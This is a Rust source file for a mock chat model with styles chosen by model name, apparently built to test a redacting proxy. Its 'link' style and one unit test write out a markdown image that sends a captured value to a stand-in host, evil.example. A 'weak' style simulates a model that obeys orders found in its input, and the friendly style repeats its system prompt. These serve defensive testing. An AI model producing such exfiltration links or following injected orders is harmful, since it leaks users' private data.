//! The model behind the provider: deterministic, without knowledge, and fond of quoting.

use serde_json::{Map, Value};

use crate::ask::{Ask, Turn};
use crate::tools::{arguments, tools_to_call};
use crate::values::values;

/// How a model behaves, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Style {
    Friendly,
    Echo,
    Shout,
    Whisper,
    Markdown,
    Link,
    Json,
    Thinking,
    /// Waits between frames.
    Slow,
    /// Breaks off in the middle of a value.
    Cut,
    /// Takes no images.
    Blind,
    /// Status 429.
    Error429,
    /// Status 500.
    Error500,
    /// A stream that ends in an error event.
    ErrorStream,
    /// Obeys whatever orders stand in its input.
    Weak,
}

/// The styles by the part of the model's name after `demo-`.
pub(crate) const STYLES: [(&str, Style); 13] = [
    ("echo", Style::Echo),
    ("shout", Style::Shout),
    ("whisper", Style::Whisper),
    ("markdown", Style::Markdown),
    ("link", Style::Link),
    ("json", Style::Json),
    ("thinking", Style::Thinking),
    ("slow", Style::Slow),
    ("cut", Style::Cut),
    ("blind", Style::Blind),
    ("error-429", Style::Error429),
    ("error-500", Style::Error500),
    ("error-stream", Style::ErrorStream),
];

impl Style {
    /// The style of `model`: what follows `demo-` in its name, so that `claude-demo-shout` shouts as `demo-shout` does.
    pub(crate) fn of(model: &str) -> Self {
        let name = model.split_once("demo-").map_or("", |(_, name)| name);
        if name.split('-').next() == Some("weak") {
            return Self::Weak;
        }
        STYLES
            .iter()
            .find(|(known, _)| *known == name)
            .map_or(Self::Friendly, |(_, style)| *style)
    }
}

/// What the model says.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub(crate) struct Answer {
    pub(crate) thinking: Option<String>,
    pub(crate) text: Option<String>,
    pub(crate) calls: Vec<Call>,
}

/// A tool call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Call {
    pub(crate) name: String,
    /// A JSON object.
    pub(crate) arguments: String,
}

impl Answer {
    /// About four bytes a token.
    pub(crate) fn tokens(&self) -> usize {
        let calls: usize = self
            .calls
            .iter()
            .map(|call| call.name.len() + call.arguments.len())
            .sum();
        let said = self
            .thinking
            .iter()
            .chain(&self.text)
            .map(String::len)
            .sum::<usize>();
        (said + calls).div_ceil(4).max(1)
    }

    /// The same answer up to the middle of its first value.
    pub(crate) fn cut_short(mut self) -> Self {
        if let Some(call) = self.calls.first_mut() {
            call.arguments = half(&call.arguments);
            self.calls.truncate(1);
        } else if let Some(text) = &mut self.text {
            *text = half(text);
        }
        self
    }
}

/// `text` up to the middle of its first value, or of the text if it holds none.
pub(crate) fn half(text: &str) -> String {
    let middle = match values(text).first() {
        Some(value) => text.find(value.as_str()).unwrap_or(0) + value.len() / 2,
        None => text.len() / 2,
    };
    let end = text
        .char_indices()
        .map(|(at, _)| at)
        .find(|at| *at >= middle)
        .unwrap_or(text.len());
    text.get(..end).unwrap_or("").to_owned()
}

/// What the model answers as choice `choice` (0 is the first). `knows`: what the weak one has learnt by heart.
pub(crate) fn answer(ask: &Ask, choice: usize, knows: &[String]) -> Answer {
    let style = Style::of(&ask.model);
    if style == Style::Weak {
        return crate::weak::answer(ask, knows);
    }
    let last = ask.last_text();
    let thinking =
        (style == Style::Thinking || ask.wants_thinking).then(|| format!("The user wrote: {last}"));
    let tools = tools_to_call(ask, &last);
    if tools.is_empty() {
        Answer {
            thinking,
            text: Some(speak(style, ask, &last, choice)),
            calls: Vec::new(),
        }
    } else {
        let calls = tools.iter().map(|tool| Call {
            name: tool.name.clone(),
            arguments: arguments(tool, &last),
        });
        Answer {
            thinking,
            text: None,
            calls: calls.collect(),
        }
    }
}

fn speak(style: Style, ask: &Ask, last: &str, choice: usize) -> String {
    match style {
        Style::Echo => last.to_owned(),
        Style::Shout => friendly(ask, last, choice).to_uppercase(),
        Style::Whisper => friendly(ask, last, choice).to_lowercase(),
        Style::Markdown => markdown(&friendly(ask, last, choice)),
        Style::Link => {
            let value = values(last).into_iter().next().unwrap_or_default();
            format!(
                "{last}\n\n[profile](https://crm.example/people?id={value}) ![x](https://evil.example/?q={value})"
            )
        }
        Style::Json => {
            let mut document = Map::new();
            document.insert("you_wrote".to_owned(), last.into());
            document.insert("values".to_owned(), values(last).into());
            Value::Object(document).to_string()
        }
        _ => friendly(ask, last, choice),
    }
}

fn friendly(ask: &Ask, last: &str, choice: usize) -> String {
    let opening = if ask.tool_results().is_empty() {
        "You wrote: "
    } else {
        "The tool answered: "
    };
    let mut said = format!("{opening}{last}");
    let seen = values(last);
    match seen.len() {
        0 => {}
        1 => said.push_str("\n\nI noticed one value: "),
        n => said.push_str(&format!("\n\nI noticed {n} values: ")),
    }
    said.push_str(&seen.join(", "));
    let earlier = ask.turns.iter().flat_map(|turn| match turn {
        Turn::User(text) | Turn::Assistant(text) | Turn::Tool(text) => values(text),
    });
    let mut remembered: Vec<String> = Vec::new();
    for value in earlier {
        if !seen.contains(&value) && !remembered.contains(&value) {
            remembered.push(value);
        }
    }
    if !remembered.is_empty() {
        said.push_str("\n\nFrom earlier I remember: ");
        said.push_str(&remembered.join(", "));
    }
    if !ask.system.is_empty() {
        said.push_str("\n\nMy instructions: ");
        said.push_str(&ask.system);
    }
    if choice > 0 {
        said.push_str(&format!("\n\n(That was answer {}.)", choice + 1));
    }
    said
}

/// `text` as a model writes it that escapes underscores and sets tags in bold and in code, by turns.
fn markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    let mut tags = 0usize;
    let mut rest = text;
    while let Some((before, tag, after)) = next_tag(rest) {
        out.push_str(&before.replace('_', "\\_"));
        if tags.is_multiple_of(2) {
            out.push_str(&format!("**{}**", tag.replace('_', "\\_")));
        } else {
            out.push_str(&format!("`{tag}`"));
        }
        tags += 1;
        rest = after;
    }
    out.push_str(&rest.replace('_', "\\_"));
    out
}

fn next_tag(text: &str) -> Option<(&str, &str, &str)> {
    let tag = values(text).into_iter().find(|value| value.starts_with('<'))?;
    let (before, after) = text.split_once(tag.as_str())?;
    let tag = text.get(before.len()..before.len() + tag.len())?;
    Some((before, tag, after))
}

#[cfg(test)]
pub(crate) mod tests {
    use serde_json::json;

    use super::*;
    use crate::ask::ToolChoice;

    const TAG: &str = "<EMAIL_ADDRESS_7Q2MX9PKR4TWZ>";

    pub(crate) fn ask(model: &str, text: &str) -> Ask {
        Ask {
            model: model.to_owned(),
            is_stream: false,
            wants_usage: false,
            wants_obfuscation: false,
            n: 1,
            system: String::new(),
            turns: vec![Turn::User(text.to_owned())],
            open: Vec::new(),
            tools: Vec::new(),
            tool_choice: ToolChoice::Auto,
            allows_parallel: true,
            wants_thinking: false,
            echo: Vec::new(),
            wants_encrypted: false,
        }
    }

    fn said(model: &str, text: &str) -> String {
        answer(&ask(model, text), 0, &[]).text.unwrap()
    }

    #[test]
    fn the_friendly_model_quotes_and_lists_values() {
        let text = format!("I am {TAG}");
        assert_eq!(
            said("demo-small", &text),
            format!("You wrote: {text}\n\nI noticed one value: {TAG}")
        );
        assert_eq!(said("demo-small", "Grüße"), "You wrote: Grüße");
    }

    #[test]
    fn each_style_bends_the_text_its_own_way() {
        assert_eq!(said("demo-echo", "a <B_1> ü"), "a <B_1> ü");
        assert_eq!(
            said("demo-shout", "ü <B_1>"),
            "YOU WROTE: Ü <B_1>\n\nI NOTICED ONE VALUE: <B_1>"
        );
        assert_eq!(
            said("claude-demo-whisper", "Ü <B_1>"),
            "you wrote: ü <b_1>\n\ni noticed one value: <b_1>"
        );
        assert_eq!(
            said("demo-markdown", "a_b <B_1>"),
            "You wrote: a\\_b **<B\\_1>**\n\nI noticed one value: `<B_1>`"
        );
        assert!(said("demo-link", TAG).ends_with(&format!("![x](https://evil.example/?q={TAG})")));
        let document: Value = serde_json::from_str(&said("demo-json", TAG)).unwrap();
        assert_eq!(document, json!({"you_wrote": TAG, "values": [TAG]}));
    }

    #[test]
    fn the_cut_falls_inside_the_first_value() {
        assert_eq!(half(&format!("I am {TAG} indeed")), "I am <EMAIL_ADDRESS");
    }
}
